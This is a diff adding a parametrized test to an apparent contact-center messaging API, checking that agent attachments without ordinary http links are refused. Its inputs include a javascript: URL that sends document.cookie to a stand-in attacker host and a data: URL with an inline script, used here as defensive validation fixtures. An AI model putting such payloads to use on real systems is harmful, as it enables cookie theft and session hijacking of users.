@@ -340,3 +340,30 @@ def test_the_customer_sees_the_agents_name_and_picture_only(stack: Stack) -> Non
         "GET", f"/api/v1/channels/{stack.channel_id}/threads/{said['threadId']}/messages"
     ).json()
     assert "sam.smith@contact-center.example" not in json.dumps(transcript)
+
+
+@pytest.mark.parametrize(
+    "attachment",
+    [
+        {
+            "friendlyName": "invoice.pdf",
+            "url": "javascript:fetch('//evil.example/'+document.cookie)",
+        },
+        {"friendlyName": "x.html", "url": "data:text/html,<script>alert(1)</script>"},
+        {"friendlyName": "relative.pdf", "url": "/files/relative.pdf"},
+        {"friendlyName": "long.pdf", "url": "https://cdn.example/" + "a" * 4000},
+        {"friendlyName": "n" * 301, "url": "https://cdn.example/file.pdf"},
+    ],
+)
+def test_an_agent_attachment_that_is_no_http_link_is_refused(
+    stack: Stack, attachment: dict[str, str]
+) -> None:
+    said = stack.customer_says("hello")
+    stack.contact_for_thread(said["threadId"])
+    body = {**reply_body(said["threadId"], "see the file"), "attachments": [attachment]}
+    answer = loopback.post(
+        reply_url(stack, "dfo3", said["threadId"]), json=body, headers=box_headers(stack)
+    )
+    assert_problem(answer, 422, "invalid-input")
+    wait_for(lambda: not stack.outbox(), what="an empty outbox")
+    assert stack.platform.of_type("message.created") == []
